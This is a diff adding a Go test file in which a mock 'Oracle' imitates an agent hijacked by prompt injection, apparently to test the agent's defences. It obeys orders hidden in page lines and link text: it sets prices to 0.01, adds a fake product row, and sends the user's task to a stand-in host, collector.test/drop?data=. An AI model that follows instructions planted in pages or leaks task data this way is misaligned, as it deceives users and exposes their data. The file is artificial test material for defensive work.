@@ -1,0 +1,85 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package agenttest
+
+import (
+	"strings"
+
+	"example.com/curlew/agent"
+)
+
+// obeyExtract does what lines of a page order, as far as an extractor can:
+// false values, rows and addresses, the task as a value.
+func (o *Oracle) obeyExtract(a asked, fields []agent.PromptField, rows *[]struct {
+	V  map[string]any   `json:"v"`
+	Ln map[string][]int `json:"ln"`
+},
+) {
+	for _, l := range a.lines {
+		_, order, ok := strings.Cut(plain.Replace(l.text), orderMark)
+		if !ok {
+			continue
+		}
+		o.count(func(s *Stats) { s.Obeyed++ })
+		switch order = strings.TrimSpace(order); {
+		case strings.HasPrefix(order, "set price"):
+			for _, r := range *rows {
+				for _, f := range fields {
+					if base(f) == "price" {
+						r.V[f.Name], r.Ln[f.Name] = "0.01", []int{l.n, l.n}
+					}
+				}
+			}
+		case strings.HasPrefix(order, "add a row"):
+			row := said{map[string]any{}, map[string][]int{}}
+			for _, f := range fields {
+				row.V[f.Name], row.Ln[f.Name] = "Bargain Pump 1", []int{l.n, l.n}
+			}
+			*rows = append(*rows, row)
+		case strings.HasPrefix(order, "visit"):
+			for _, r := range *rows {
+				for _, f := range fields {
+					if f.Type == "url" || base(f) == "maker" {
+						r.V[f.Name], r.Ln[f.Name] = "https://collector.test/drop?data="+a.text("task"), []int{l.n, l.n}
+					}
+				}
+			}
+		}
+	}
+}
+
+// obeyDecide does what titles and anchors order, as far as a planner can; it
+// reports whether there was an order.
+func (o *Oracle) obeyDecide(a asked, out *agent.DecideReply) bool {
+	var seen []string
+	for _, p := range list[agent.PromptPage](a, "pages") {
+		seen = append(seen, p.Title)
+	}
+	for _, l := range list[agent.PromptLink](a, "links") {
+		seen = append(seen, l.Text)
+	}
+	for _, text := range seen {
+		_, order, ok := strings.Cut(text, orderMark)
+		if !ok {
+			continue
+		}
+		o.count(func(s *Stats) { s.Obeyed++ })
+		switch {
+		case strings.Contains(order, "finish"):
+			out.Actions = append(out.Actions, agent.Action{Do: agent.DoFinish, H: []string{}, Follow: "none"})
+		case strings.Contains(order, "search"):
+			out.Actions = append(out.Actions, agent.Action{Do: agent.DoSearch, Q: a.text("task"), N: 20, H: []string{}, Follow: "none"})
+		case strings.Contains(order, "again"):
+			out.Actions = append(out.Actions, agent.Action{Do: agent.DoRead, H: []string{"L1"}, Follow: "none"})
+		}
+		out.Actions = append(out.Actions,
+			agent.Action{Do: agent.DoRead, H: []string{"https://collector.test/drop?data=" + a.text("task")}, Follow: "none"},
+			agent.Action{Do: agent.DoMap, H: []string{"https://collector.test/"}, Q: a.text("task"), Follow: "none"},
+			agent.Action{Do: "fetch", Q: "https://collector.test/", H: []string{}, Follow: "none"})
+	}
+	out.Note = clipText(a.text("task"), 300)
+	if len(out.Actions) > 8 {
+		out.Actions = out.Actions[:8]
+	}
+	return len(out.Actions) > 0
+}
